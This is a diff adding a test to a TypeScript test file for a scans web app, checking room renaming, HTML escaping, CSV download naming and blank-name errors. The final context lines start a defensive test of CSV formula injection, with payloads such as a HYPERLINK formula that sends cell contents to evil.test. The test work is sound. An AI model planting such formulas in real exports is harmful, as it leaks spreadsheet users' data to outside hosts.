@@ -80,6 +80,53 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
     expect((await get(ws('/scans?scans=all'))).body).toContain('<td data-label="Floor area" class="num">20.52 m²</td>');
   });
 
+  it('Rename on the scan page: the name shows on the page, the list and the CSV; a blank one is refused beside its room', async () => {
+    const post = (url: string, fields: Record<string, string>, as: Person = f.member) =>
+      f.app.inject({
+        method: 'POST',
+        url,
+        headers: { cookie: as.cookie, 'content-type': 'application/x-www-form-urlencoded' },
+        payload: new URLSearchParams({ _csrf: as.csrf, ...fields }).toString(),
+      });
+    const page = await get(ws(`/scans/${scanId}`));
+    expect(page.body).toContain(`action="/w/${f.home.workspaceId}/scans/${scanId}/rooms/2/rename"`);
+    expect(page.body).toContain('<summary>Rename</summary>');
+
+    // A member renames (as they attach); the stored bytes stay as they came.
+    const renamed = await post(ws(`/scans/${scanId}/rooms/2/rename`), { name: 'Front hall & stairs' });
+    expect(renamed.statusCode).toBe(303);
+    expect(renamed.headers.location).toBe(ws(`/scans/${scanId}?notice=room-renamed`));
+    const after = await get(ws(`/scans/${scanId}`));
+    expect(after.body).toContain('<strong id="room-name-2">Front hall &amp; stairs</strong>');
+    expect(after.body).toContain('<strong>2. Front hall &amp; stairs</strong>');
+    expect((await get(ws('/scans?scans=all'))).body).toContain(
+      'Kitchen, Front hall &amp; stairs, &lt;b&gt;Attic&lt;/b&gt;',
+    );
+    expect((await get(ws(`/scans/${scanId}/body`))).body).toBe(body);
+
+    // The measurements download is named after the job and the scan's day, not the scan's id.
+    const csv = await get(ws(`/scans/${scanId}/measurements.csv`));
+    const day = new Date().toISOString().slice(0, 10);
+    expect(csv.headers['content-disposition']).toMatch(
+      new RegExp(`^attachment; filename="Scan measurements \\d{4}-\\d{2}-\\d{2}\\.csv"$`),
+    );
+    expect(String(csv.headers['content-disposition'])).toContain(day.slice(0, 4));
+    expect(
+      (parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>).map((r) => r.name),
+    ).toEqual(['Kitchen', 'Front hall & stairs', '<b>Attic</b>']);
+
+    // Blank: the page again (400), the message beside that room's field, its Rename open with what was typed.
+    const blank = await post(ws(`/scans/${scanId}/rooms/1/rename`), { name: '   ' });
+    expect(blank.statusCode).toBe(400);
+    expect(blank.body).toMatch(
+      /<details class="rename" open><summary>Rename<\/summary>[\s\S]*?id="rename-1"[^>]*aria-invalid="true"/,
+    );
+    expect(blank.body).toContain('<p class="field-error" id="rename-1-error">Give the room a name.</p>');
+    expect(blank.body).toContain('<strong id="room-name-1">Kitchen</strong>');
+    // A room that is not there is not found.
+    expect((await post(ws(`/scans/${scanId}/rooms/9/rename`), { name: 'Attic' })).statusCode).toBe(404);
+  });
+
   it('room names that a spreadsheet would run are guarded in the CSV; the numbers stay numbers', async () => {
     const names = ['=HYPERLINK("http://evil.test/?"&A1,"click")', '@SUM(1+1)', '+1+2;=3'];
     const rooms = names.map((name, i) => ({ name, ...rectangularRoom({ width: 4, length: 2 + i, height: 2.5 }) }));
